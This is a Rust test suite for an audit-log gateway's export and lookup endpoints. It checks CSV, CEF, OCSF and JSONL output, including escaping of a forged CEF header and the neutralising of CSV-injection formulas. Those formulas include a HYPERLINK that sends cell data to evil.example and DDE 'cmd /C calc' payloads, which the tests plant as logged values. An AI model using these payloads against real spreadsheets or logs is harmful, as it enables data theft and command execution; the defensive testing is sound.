//! `GET /v1/export` in every format, `auditgate export`, and `GET /v1/lookup`: the real
//! gateway with `policy.toml` (alert-bruteforce raises alerts), a known set of events
//! (with hostile values) selected by `source`, since the log also holds the gateway's own
//! events.

use std::collections::BTreeMap;

use auditgate_tests::*;
use serde_json::{Value, json};

/// The CSV columns the README documents, in order.
const CSV_COLUMNS: [&str; 22] = [
    "seq",
    "time",
    "received_at",
    "source",
    "id",
    "action",
    "outcome",
    "severity",
    "user",
    "ip",
    "user_agent",
    "session_id",
    "request_id",
    "resource_type",
    "resource_id",
    "reason",
    "details",
    "changes",
    "redacted",
    "tags",
    "policy_set",
    "prev",
];

/// A value no format may let through unescaped: CEF and CSV separators, quotes, line
/// breaks, a forged CEF field and header, non-ASCII.
const HOSTILE: &str = "eve|x\\y=z, \"q\"\r\nCEF:0|forged|x suser=admin ü";

/// The known set: each OCSF class and activity, five failed logins in a row (a brute-force
/// alert), nested details and changes, and the hostile value in several fields.
fn known_events() -> Vec<Value> {
    let mut events = vec![
        json!({"id": "k-1", "time": "2026-11-23T08:00:00Z", "action": "user.login", "outcome": "success",
            "user": "alice", "ip": "203.0.113.7", "user_agent": "Mozilla/5.0 Firefox/131.0", "session_id": "s-1"}),
        json!({"time": "2026-11-23T08:30:00Z", "action": "user.logout", "outcome": "success", "user": "alice",
            "session_id": "s-1"}),
        json!({"time": "2026-11-23T09:00:00Z", "action": "session.timeout", "outcome": "success", "user": "alice"}),
        json!({"time": "2026-11-23T09:10:00Z", "action": "account.lockout", "outcome": "success", "user": "bob",
            "reason": "locked", "severity": "medium"}),
        json!({"time": "2026-11-23T09:20:00Z", "action": "user.password.change", "outcome": "success",
            "user": "carol"}),
        json!({"time": "2026-11-23T09:30:00Z", "action": "admin.role.change", "outcome": "success", "user": "carol",
            "ip": "2001:db8::17", "resource_type": "user", "resource_id": "dave",
            "changes": {"before": {"role": "viewer"}, "after": {"role": "admin"}}, "severity": "high"}),
        json!({"time": "2026-11-23T09:40:00Z", "action": "purchase.complete", "outcome": "success", "user": "alice",
            "resource_type": "order", "resource_id": "o-1", "request_id": "r-9",
            "details": {"amount": "42.00", "items": [1, 2, {"sku": "a,b"}]}}),
        json!({"time": "2026-11-23T09:50:00Z", "action": "report.export", "outcome": "error", "user": HOSTILE,
            "reason": HOSTILE, "resource_type": "report", "resource_id": HOSTILE, "severity": "critical",
            "details": {"note": HOSTILE}}),
    ];
    for i in 0..5 {
        events.push(
            json!({"time": format!("2026-11-23T10:00:0{i}Z"), "action": "user.login", "outcome": "failure",
            "user": "mallory", "ip": "198.51.100.23", "reason": "wrong_password"}),
        );
    }
    events
}

/// A gateway holding the known set; answers it as stored (in seq order).
fn gateway_with_known_set() -> (Gateway, Vec<Value>) {
    let gw = Gateway::start_default();
    let (status, body) = gw.post_bulk(INGEST_KEY, &ndjson(&known_events()));
    assert_eq!(status, 200, "{body}");
    assert_eq!(body["accepted"], known_events().len(), "{body}");
    let stored = gw.query_all(&format!("source={INGEST_NAME}"), 1000);
    assert_eq!(stored.len(), known_events().len());
    (gw, stored)
}

/// One export answer: status, headers of interest, body.
struct Export {
    status: u16,
    content_type: String,
    disposition: String,
    body: String,
}

fn export(gw: &Gateway, key: &str, query: &str) -> Export {
    let url = format!("{}/v1/export?{query}", gw.base_url());
    let resp = gw.client().get(&url).bearer_auth(key).send().unwrap_or_else(|e| panic!("GET {url}: {e}"));
    let header =
        |name: &str| resp.headers().get(name).and_then(|v| v.to_str().ok()).unwrap_or_default().to_string();
    let (content_type, disposition) = (header("content-type"), header("content-disposition"));
    let status = resp.status().as_u16();
    let body = resp.text().unwrap_or_else(|e| panic!("GET {url}: body: {e}"));
    Export { status, content_type, disposition, body }
}

fn ok_export(gw: &Gateway, query: &str) -> Export {
    let e = export(gw, AUDITOR_KEY, query);
    assert_eq!(e.status, 200, "GET /v1/export?{query}: {}", e.body);
    e
}

fn json_lines(text: &str) -> Vec<Value> {
    text.lines().map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("not JSON: {e}: {l}"))).collect()
}

/// The alerts raised for `seq`.
fn alerts_of(gw: &Gateway, seq: u64) -> Vec<Value> {
    let (status, body) = gw.get(AUDITOR_KEY, &format!("/v1/alerts?seq={seq}"));
    assert_eq!(status, 200, "{body}");
    body["alerts"].as_array().cloned().unwrap_or_default()
}

#[test]
fn jsonl_and_csv_hold_exactly_the_stored_events() {
    let (gw, stored) = gateway_with_known_set();
    let q = format!("source={INGEST_NAME}");

    let jsonl = ok_export(&gw, &q);
    assert_eq!(jsonl.content_type, "application/x-ndjson");
    assert!(
        jsonl.disposition.starts_with("attachment; filename=\"auditgate-export-")
            && jsonl.disposition.ends_with(".jsonl\""),
        "{}",
        jsonl.disposition
    );
    assert_eq!(json_lines(&jsonl.body), stored, "the jsonl export is the stored records, in order");
    // The default is jsonl.
    assert_eq!(ok_export(&gw, &format!("{q}&format=jsonl")).body, jsonl.body);

    let csv = ok_export(&gw, &format!("{q}&format=csv"));
    assert!(csv.content_type.starts_with("text/csv"), "{}", csv.content_type);
    assert!(csv.disposition.ends_with(".csv\""), "{}", csv.disposition);
    assert!(csv.body.contains("\r\n"), "RFC 4180 line ends are CRLF");
    let mut reader = csv::Reader::from_reader(csv.body.as_bytes());
    let header: Vec<String> = reader.headers().expect("header row").iter().map(str::to_string).collect();
    assert_eq!(header, CSV_COLUMNS);
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("a CSV row")).collect();
    assert_eq!(rows.len(), stored.len());
    for (row, record) in rows.iter().zip(&stored) {
        assert_eq!(row.len(), CSV_COLUMNS.len());
        // Every field of the record is in a column...
        for key in record.as_object().expect("object").keys() {
            assert!(CSV_COLUMNS.contains(&key.as_str()), "field {key} has no CSV column: {record}");
        }
        // ...and every column holds the field's value (JSON for objects and arrays).
        let mut back = serde_json::Map::new();
        for (column, cell) in CSV_COLUMNS.iter().zip(row.iter()) {
            if cell.is_empty() {
                continue;
            }
            let value = match &record[*column] {
                Value::String(_) => Value::String(cell.to_string()),
                _ => serde_json::from_str(cell).unwrap_or_else(|e| panic!("{column}: {cell:?}: {e}")),
            };
            back.insert(column.to_string(), value);
        }
        let mut record = record.clone();
        record.as_object_mut().expect("object").retain(|_, v| !v.is_null());
        assert_eq!(Value::Object(back), record, "a CSV row parsed back is the record");
    }
    let hostile = rows.iter().find(|r| &r[5] == "report.export").expect("the hostile row");
    assert_eq!(&hostile[8], HOSTILE);
}

/// Texts a spreadsheet would evaluate as a formula (OWASP "CSV Injection"): the reported
/// failed login's `user` and `reason`, then a cell starting with each other trigger, a
/// full-width `=`, a space before `=` (live where an import trims spaces), and a leading
/// `'` (doubled, so the documented reverse, "drop one leading `'`", gives it back).
const FORMULA_TEXTS: [&str; 11] = [
    r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#,
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\u{FF1D}1+1",
    "\u{FF20}SUM(A1)",
    " =1+1",
    "\u{FEFF}=1+1",
    "'=1+1",
];

/// True when a spreadsheet could read `cell` as a formula. Written here from the OWASP
/// rule, independently of the gateway: the first character is a trigger (tab, CR
/// included), or the first one after whitespace, control and zero-width characters is
/// `=`, `+`, `-`, `@` or their full-width forms.
fn is_live_formula(cell: &str) -> bool {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        return true;
    }
    let invisible =
        |c: char| c.is_whitespace() || c.is_control() || matches!(c, '\u{200B}'..='\u{200F}' | '\u{FEFF}');
    cell.chars().find(|&c| !invisible(c)).is_some_and(|c| {
        matches!(c, '=' | '+' | '-' | '@' | '\u{FF1D}' | '\u{FF0B}' | '\u{FF0D}' | '\u{FF20}')
    })
}

/// A stored field as the CSV writes it: strings as they are, other values as JSON.
fn field_text(value: &Value) -> String {
    match value {
        Value::Null => String::new(),
        Value::String(s) => s.clone(),
        other => other.to_string(),
    }
}

#[test]
fn csv_cells_a_spreadsheet_would_evaluate_are_neutralized() {
    let gw = Gateway::start_default();
    let [hyperlink, dde, ..] = FORMULA_TEXTS;
    // The reported attack: a failed login whose user and reason are formulas.
    let mut events =
        vec![json!({"time": "2026-11-23T11:00:00Z", "action": "user.login", "outcome": "failure",
        "user": hyperlink, "ip": "198.51.100.66", "reason": dde})];
    // Each trigger in the columns a client writes, beside a JSON column holding one.
    for (i, text) in FORMULA_TEXTS.iter().enumerate().skip(2) {
        events.push(json!({"time": format!("2026-11-23T11:01:{i:02}Z"), "action": "user.login",
            "outcome": "failure", "user": text, "reason": text, "resource_type": "user", "resource_id": text,
            "user_agent": text, "details": {"note": text, "n": -1}}));
    }
    // Ordinary cells, with the characters in the middle (never changed).
    events.push(json!({"id": "ordinary-1", "time": "2026-11-23T11:02:00Z", "action": "user.login",
        "outcome": "success", "user": "alice@example.com", "ip": "2001:db8::17", "reason": "a-b=c+d",
        "resource_id": "x@y", "session_id": " leading space"}));
    let (status, body) = gw.post_bulk(INGEST_KEY, &ndjson(&events));
    assert_eq!(status, 200, "{body}");
    assert_eq!(body["accepted"], events.len(), "{body}");
    let stored = gw.query_all(&format!("source={INGEST_NAME}"), 1000);
    assert_eq!(stored.len(), events.len());
    // Stored as sent: the test puts the attacker's exact text through the export.
    assert_eq!((stored[0]["user"].as_str(), stored[0]["reason"].as_str()), (Some(hyperlink), Some(dde)));
    for (record, text) in stored[1..].iter().zip(FORMULA_TEXTS.iter().skip(2)) {
        for column in ["user", "reason", "resource_id", "user_agent"] {
            assert_eq!(record[column].as_str(), Some(*text), "{column} of {record}");
        }
    }

    let query = format!("source={INGEST_NAME}&format=csv");
    let out = ok_export(&gw, &query);
    let mut reader = csv::Reader::from_reader(out.body.as_bytes());
    let header: Vec<String> = reader.headers().expect("header row").iter().map(str::to_string).collect();
    assert_eq!(header, CSV_COLUMNS);
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("a CSV row")).collect();
    assert_eq!(rows.len(), stored.len());
    let (mut neutralized, mut ordinary) = (0, 0);
    for (row, record) in rows.iter().zip(&stored) {
        assert_eq!(row.len(), CSV_COLUMNS.len());
        for (column, cell) in CSV_COLUMNS.iter().zip(row.iter()) {
            let text = field_text(&record[*column]);
            assert!(!is_live_formula(cell), "seq {}: {column} is a live formula: {cell:?}", record["seq"]);
            if FORMULA_TEXTS.contains(&text.as_str()) {
                // One `'` in front of the stored text, nothing else changed or lost.
                assert_eq!(cell, format!("'{text}"), "seq {}: {column}", record["seq"]);
                assert_eq!(cell.strip_prefix('\''), Some(text.as_str()));
                neutralized += 1;
            } else {
                assert_eq!(
                    cell, text,
                    "seq {}: {column} is not a formula and must be as stored",
                    record["seq"]
                );
                ordinary += 1;
            }
        }
    }
    assert_eq!(neutralized, 2 + (FORMULA_TEXTS.len() - 2) * 4, "every planted formula was exported");
    assert!(ordinary > 0);
    // JSON columns stay JSON (a formula inside one is not at the cell's start).
    let details: Value = serde_json::from_str(&rows[1][16]).expect("details JSON");
    assert_eq!(details, stored[1]["details"]);
    let last = rows.last().expect("the ordinary row");
    assert_eq!((&last[8], &last[15], &last[14]), ("alice@example.com", "a-b=c+d", "x@y"));

    // `auditgate export` writes the same neutralized bytes.
    let dir = tempfile::tempdir().expect("tempdir");
    let file = dir.path().join("formulas.csv");
    let url = gw.base_url();
    let run = run_cli(
        [
            "export",
            "--url",
            url.as_str(),
            "--key",
            AUDITOR_KEY,
            "--format",
            "csv",
            "--source",
            INGEST_NAME,
            "-o",
        ]
        .iter()
        .map(|s| s.to_string())
        .chain([file.display().to_string()]),
    );
    assert_eq!(run.code, Some(0), "{run:?}");
    assert_eq!(std::fs::read_to_string(&file).expect("the CLI wrote the file"), out.body);
}

/// The class, activity and required attributes of one OCSF event of a stored record.
fn check_ocsf_event(e: &Value, record: &Value) {
    let action = record["action"].as_str().unwrap_or_default();
    let want = match action {
        "user.login" => (3002, 1),
        "user.logout" | "session.timeout" => (3002, 2),
        "account.lockout" => (3001, 9),
        "user.password.change" => (3001, 3),
        "admin.role.change" => (3001, 7),
        "purchase.complete" => (6003, 3),
        "report.export" => (6003, 2),
        other => panic!("no expectation for {other}"),
    };
    let class = e["class_uid"].as_u64().unwrap_or_default();
    let activity = e["activity_id"].as_u64().unwrap_or_default();
    assert_eq!((class, activity), want, "{action}: {e}");
    assert_eq!(e["type_uid"].as_u64(), Some(class * 100 + activity), "{e}");
    assert_eq!(e["category_uid"].as_u64(), Some(class / 1000), "{e}");
    let time = time_micros(record["time"].as_str().unwrap_or_default()) / 1000;
    assert_eq!(e["time"].as_i64(), Some(time), "time in ms: {e}");
    let severity = ["info", "low", "medium", "high", "critical"]
        .iter()
        .position(|s| record["severity"] == *s)
        .map(|i| i as u64 + 1);
    assert_eq!(e["severity_id"].as_u64(), severity, "{e}");
    let status = match record["outcome"].as_str() {
        Some("success") => 1,
        Some("failure" | "error") => 2,
        _ => 0,
    };
    assert_eq!(e["status_id"], status, "{e}");
    assert_eq!(e["metadata"]["version"].as_str().map(|v| v.starts_with("1.")), Some(true), "{e}");
    for key in ["name", "vendor_name", "version"] {
        assert!(e["metadata"]["product"][key].is_string(), "metadata.product.{key}: {e}");
    }
    match class {
        3002 | 3001 => assert!(e["user"]["name"].is_string(), "user: {e}"),
        _ => {
            assert_eq!(e["api"]["operation"], action, "{e}");
            assert!(e["actor"]["user"].is_object(), "actor: {e}");
            assert!(e["src_endpoint"].as_object().is_some_and(|o| !o.is_empty()), "src_endpoint: {e}");
        }
    }
    if class == 3001 {
        assert_eq!(e["actor"]["user"]["name"], record["user"], "{e}");
    }
    if let Some(ip) = record["ip"].as_str() {
        assert_eq!(e["src_endpoint"]["ip"], ip, "{e}");
    }
    if action == "user.login" && record["outcome"] == "failure" {
        assert_eq!(e["status_detail"], "Invalid credentials", "{e}");
    }
    if action == "admin.role.change" {
        assert_eq!(e["user"]["name"], "dave", "the changed account: {e}");
    }
}

#[test]
fn ocsf_maps_each_action_to_its_class_and_alerts_to_findings() {
    let (gw, stored) = gateway_with_known_set();
    let out = ok_export(&gw, &format!("source={INGEST_NAME}&format=ocsf"));
    assert_eq!(out.content_type, "application/x-ndjson");
    assert!(out.disposition.ends_with(".ocsf.jsonl\""), "{}", out.disposition);
    let lines = json_lines(&out.body);
    let mut next = lines.iter();
    let mut findings = 0;
    for record in &stored {
        let seq = record["seq"].as_u64().expect("seq");
        let e = next.next().unwrap_or_else(|| panic!("no OCSF event for seq {seq}"));
        assert_eq!(e["metadata"]["uid"], seq.to_string(), "events are in the log's order");
        check_ocsf_event(e, record);
        for alert in alerts_of(&gw, seq) {
            let f = next.next().unwrap_or_else(|| panic!("no finding for alert {alert}"));
            assert_eq!((f["class_uid"].as_u64(), f["type_uid"].as_u64()), (Some(2004), Some(200401)), "{f}");
            assert_eq!(f["category_uid"], 2, "{f}");
            assert_eq!(f["finding_info"]["uid"], format!("alert-{}", alert["id"]), "{f}");
            assert_eq!(f["finding_info"]["title"], alert["summary"], "{f}");
            assert_eq!(f["finding_info"]["related_events"][0]["uid"], seq.to_string(), "{f}");
            assert!(f["severity_id"].as_u64().is_some_and(|s| (1..=5).contains(&s)), "{f}");
            assert!(f["time"].as_i64().is_some_and(|t| t > 0), "{f}");
            assert!(f["metadata"]["product"]["name"].is_string(), "{f}");
            findings += 1;
        }
    }
    assert!(next.next().is_none(), "more lines than events and alerts");
    assert!(findings >= 1, "the five failed logins raised no alert to export");
}

/// A CEF line's seven header fields (unescaped) and its extension's keys and values.
fn parse_cef(line: &str) -> (Vec<String>, BTreeMap<String, String>) {
    let mut header = Vec::new();
    let mut field = String::new();
    let mut chars = line.chars();
    while header.len() < 7 {
        match chars.next() {
            Some('\\') => field.push(chars.next().expect("an escape ends the line")),
            Some('|') => header.push(std::mem::take(&mut field)),
            Some(c) => field.push(c),
            None => panic!("a CEF line with fewer than 8 fields: {line}"),
        }
    }
    let ext: Vec<char> = chars.collect();
    // Unescaped `=` separate keys from values; a key is the word before its `=`.
    let mut eqs = Vec::new();
    let mut i = 0;
    while i < ext.len() {
        match ext[i] {
            '\\' => i += 1,
            '=' => eqs.push(i),
            _ => {}
        }
        i += 1;
    }
    let key_start = |eq: usize| ext[..eq].iter().rposition(|c| *c == ' ').map_or(0, |p| p + 1);
    let mut fields = BTreeMap::new();
    for (n, &eq) in eqs.iter().enumerate() {
        let key: String = ext[key_start(eq)..eq].iter().collect();
        let end = eqs.get(n + 1).map_or(ext.len(), |&next| key_start(next).saturating_sub(1));
        let mut value = String::new();
        let mut it = ext[eq + 1..end].iter();
        while let Some(c) = it.next() {
            match c {
                '\\' => match it.next() {
                    Some('n') => value.push('\n'),
                    Some('r') => value.push('\r'),
                    Some(other) => value.push(*other),
                    None => panic!("a dangling escape in {line}"),
                },
                c => value.push(*c),
            }
        }
        assert!(fields.insert(key.clone(), value).is_none(), "key {key} twice in {line}");
    }
    (header, fields)
}

#[test]
fn cef_escapes_hostile_values_and_carries_alerts() {
    let (gw, stored) = gateway_with_known_set();
    let out = ok_export(&gw, &format!("source={INGEST_NAME}&format=cef"));
    assert!(out.content_type.starts_with("text/plain"), "{}", out.content_type);
    assert!(out.disposition.ends_with(".cef\""), "{}", out.disposition);
    let alerts: usize = stored.iter().map(|r| alerts_of(&gw, r["seq"].as_u64().unwrap_or(0)).len()).sum();
    let lines: Vec<&str> = out.body.lines().collect();
    assert_eq!(lines.len(), stored.len() + alerts, "one line per event and per alert:\n{}", out.body);
    let mut events = stored.iter();
    for line in &lines {
        assert!(line.starts_with("CEF:0|Auditgate|Auditgate|"), "{line}");
        let (header, ext) = parse_cef(line);
        let severity: u8 = header[6].parse().unwrap_or_else(|_| panic!("severity {:?}", header[6]));
        assert!(severity <= 10, "{line}");
        if header[4].starts_with("alert:") {
            assert!(ext.contains_key("cn2"), "an alert line names its alert: {line}");
            continue;
        }
        let record = events.next().expect("an event for each event line");
        assert_eq!(header[4], record["action"].as_str().unwrap_or_default(), "{line}");
        assert_eq!(ext["cn1"], record["seq"].to_string(), "{line}");
        assert_eq!(ext.get("suser").map(String::as_str), record["user"].as_str(), "{line}");
        assert_eq!(ext.get("reason").map(String::as_str), record["reason"].as_str(), "{line}");
        let want_severity = match record["severity"].as_str() {
            Some("medium") => 5,
            Some("high") => 8,
            Some("critical") => 10,
            _ => 1,
        };
        assert_eq!(severity, want_severity, "{line}");
        if let Some(details) = record.get("details") {
            assert_eq!(&json(&ext["cs4"]), details, "{line}");
        }
        match record["ip"].as_str() {
            Some(ip) if ip.contains(':') => assert_eq!(ext["c6a2"], ip, "{line}"),
            Some(ip) => assert_eq!(ext["src"], ip, "{line}"),
            None => assert!(!ext.contains_key("src"), "{line}"),
        }
    }
    assert!(events.next().is_none());
    let hostile = lines.iter().find(|l| l.contains("|report.export|")).expect("the hostile event's line");
    let (_, ext) = parse_cef(hostile);
    assert_eq!(ext["suser"], HOSTILE);
    assert_eq!(ext["cs3"], HOSTILE);
    assert!(!ext.contains_key("CEF:0|forged|x suser"), "{hostile}");
}

#[test]
fn filters_order_limit_and_bad_parameters() {
    let (gw, stored) = gateway_with_known_set();
    let src = format!("source={INGEST_NAME}");
    let seqs_of = |query: &str| -> Vec<u64> {
        json_lines(&ok_export(&gw, query).body).iter().map(|r| r["seq"].as_u64().unwrap_or(0)).collect()
    };
    let want = |f: &dyn Fn(&Value) -> bool| -> Vec<u64> {
        stored.iter().filter(|r| f(r)).map(|r| r["seq"].as_u64().unwrap_or(0)).collect()
    };
    assert_eq!(seqs_of(&format!("{src}&user=alice")), want(&|r| r["user"] == "alice"));
    assert_eq!(
        seqs_of(&format!("{src}&action=user.*")),
        want(&|r| r["action"].as_str().unwrap_or("").starts_with("user."))
    );
    assert_eq!(seqs_of(&format!("{src}&outcome=failure")), want(&|r| r["outcome"] == "failure"));
    assert_eq!(seqs_of(&format!("{src}&ip=2001:0db8:0:0::17")), want(&|r| r["ip"] == "2001:db8::17"));
    let (from, to) = ("2026-11-23T09:00:00Z", "2026-11-23T10:00:00Z");
    let in_range = |r: &Value| {
        let t = time_micros(r["time"].as_str().unwrap_or(""));
        t >= time_micros(from) && t < time_micros(to)
    };
    assert_eq!(seqs_of(&format!("{src}&from={}&to={}", enc(from), enc(to))), want(&in_range));
    let all = want(&|_| true);
    let mut desc = all.clone();
    desc.reverse();
    assert_eq!(seqs_of(&format!("{src}&order=desc")), desc);
    assert_eq!(seqs_of(&format!("{src}&limit=3")), all[..3].to_vec());
    assert_eq!(seqs_of(&format!("{src}&order=desc&limit=2&format=jsonl")), desc[..2].to_vec());
    // Filters apply to every format: CSV rows (plus the header), OCSF events.
    let csv = ok_export(&gw, &format!("{src}&user=alice&format=csv")).body;
    assert_eq!(
        csv::Reader::from_reader(csv.as_bytes()).records().count(),
        want(&|r| r["user"] == "alice").len()
    );

    for (query, needle) in [
        ("format=xml", "`format`"),
        ("format=CSV", "`format`"),
        ("limit=0", "`limit`"),
        ("limit=ten", "`limit`"),
        ("order=up", "`order`"),
        ("ip=not-an-ip", "`ip`"),
        ("from=yesterday", "`from`"),
        ("cursor=abc", "`cursor`"),
        ("no_such=1", "`no_such`"),
    ] {
        let e = export(&gw, AUDITOR_KEY, query);
        let body: Value = serde_json::from_str(&e.body).unwrap_or_else(|_| panic!("{query}: {}", e.body));
        assert_error(e.status, &body, 400, "invalid_query", &[needle]);
    }
    for key in [INGEST_KEY, ADMIN_KEY] {
        let e = export(&gw, key, &src);
        assert_eq!(e.status, 403, "{}", e.body);
    }
    assert_eq!(export(&gw, "ag_dev_nope", &src).status, 401);
}

#[test]
fn an_export_walks_past_every_page_size() {
    let gw = Gateway::start_default();
    let n = 2_345;
    let events: Vec<Value> = (0..n)
        .map(|i| {
            json!({"action": "doc.read", "outcome": "success", "user": format!("u{}", i % 7),
            "details": {"i": i, "pad": "x".repeat(200)}})
        })
        .collect();
    for chunk in events.chunks(1000) {
        let (status, body) = gw.post_bulk(INGEST_KEY, &ndjson(chunk));
        assert_eq!(status, 200, "{body}");
    }
    for format in ["jsonl", "ocsf", "cef", "csv"] {
        let out = ok_export(&gw, &format!("source={INGEST_NAME}&format={format}"));
        let lines = out.body.lines().count();
        let want = if format == "csv" { n + 1 } else { n };
        assert_eq!(lines, want, "{format}: every event once");
    }
    let records = json_lines(&ok_export(&gw, &format!("source={INGEST_NAME}")).body);
    let seqs = seqs(&records);
    assert_no_dups(&seqs);
    assert!(seqs.windows(2).all(|w| w[0] < w[1]), "in the log's order");
    let is: Vec<u64> = records.iter().map(|r| r["details"]["i"].as_u64().unwrap_or(u64::MAX)).collect();
    assert_eq!(is, (0..n as u64).collect::<Vec<_>>());
}

#[test]
fn the_cli_downloads_into_the_file_and_reports_refusals() {
    let (gw, stored) = gateway_with_known_set();
    let dir = tempfile::tempdir().expect("tempdir");
    let file = dir.path().join("out.csv");
    let url = gw.base_url();
    let run = run_cli(
        [
            "export",
            "--url",
            url.as_str(),
            "--key",
            AUDITOR_KEY,
            "--format",
            "csv",
            "--source",
            INGEST_NAME,
            "--user",
            "mallory",
            "-o",
        ]
        .iter()
        .map(|s| s.to_string())
        .chain([file.display().to_string()]),
    );
    assert_eq!(run.code, Some(0), "{run:?}");
    assert!(run.stdout.contains("wrote"), "{run:?}");
    let text = std::fs::read_to_string(&file).expect("the CLI wrote the file");
    let rows: Vec<csv::StringRecord> =
        csv::Reader::from_reader(text.as_bytes()).records().map(|r| r.expect("row")).collect();
    let want: Vec<String> =
        stored.iter().filter(|r| r["user"] == "mallory").map(|r| r["seq"].to_string()).collect();
    assert_eq!(rows.iter().map(|r| r[0].to_string()).collect::<Vec<_>>(), want);
    assert_eq!(text, ok_export(&gw, &format!("source={INGEST_NAME}&user=mallory&format=csv")).body);

    // Refusals: the gateway's message, exit status 1, no file and no temporary left.
    for (key, format, needles) in
        [(AUDITOR_KEY, "xml", vec!["400", "`format`"]), (INGEST_KEY, "jsonl", vec!["403", "auditor"])]
    {
        let target = dir.path().join(format!("refused-{format}"));
        let run = run_cli(
            ["export", "--url", url.as_str(), "--key", key, "--format", format, "-o"]
                .iter()
                .map(|s| s.to_string())
                .chain([target.display().to_string()]),
        );
        assert_eq!(run.code, Some(1), "{run:?}");
        for needle in needles {
            assert!(run.stderr.contains(needle), "{needle:?} not in {run:?}");
        }
        assert!(!target.exists());
    }
    let left: Vec<_> =
        std::fs::read_dir(dir.path()).expect("dir").filter_map(Result::ok).map(|e| e.file_name()).collect();
    assert_eq!(left.len(), 1, "only out.csv: {left:?}");
}

#[test]
fn a_looked_up_pseudonym_finds_the_pseudonymized_event() {
    // redact-secrets pseudonymizes whole e-mail addresses.
    let config = with_redaction_config(&default_config(), "detectors = { email = \"pseudonymize\" }");
    let gw = Gateway::start(&config);
    let email = "alice.lookup@example.com";
    let seq = gw.ingest_one(&json!({"action": "user.login", "outcome": "success", "user": email}));
    gw.ingest_one(&json!({"action": "user.login", "outcome": "success", "user": "bob.other@example.com"}));
    let stored = gw.record(seq);
    let written = stored["user"].as_str().expect("user").to_string();
    assert!(written.starts_with("hmac-sha256:") && written != email, "{stored}");

    let (status, body) = gw.get(AUDITOR_KEY, &format!("/v1/lookup?value={}", enc(email)));
    assert_eq!(status, 200, "{body}");
    assert_eq!(body["pseudonym"], written.as_str(), "the looked-up pseudonym is the stored one");
    let found = gw.query_all(&format!("user={}", enc(&written)), 100);
    assert_eq!(seqs(&found), vec![seq]);
    let exported = json_lines(&ok_export(&gw, &format!("user={}", enc(&written))).body);
    assert_eq!(seqs(&exported), vec![seq]);
    let (_, other) = gw.get(AUDITOR_KEY, "/v1/lookup?value=bob.other%40example.com");
    assert_ne!(other["pseudonym"], body["pseudonym"]);

    for (query, needle) in [("", "`value`"), ("?value=", "`value`"), ("?value=a&x=1", "`x`")] {
        let (status, body) = gw.get(AUDITOR_KEY, &format!("/v1/lookup{query}"));
        assert_error(status, &body, 400, "invalid_query", &[needle]);
    }
    assert_eq!(gw.get(INGEST_KEY, "/v1/lookup?value=a").0, 403);
    assert_eq!(gw.get(ADMIN_KEY, "/v1/lookup?value=a").0, 403);
}
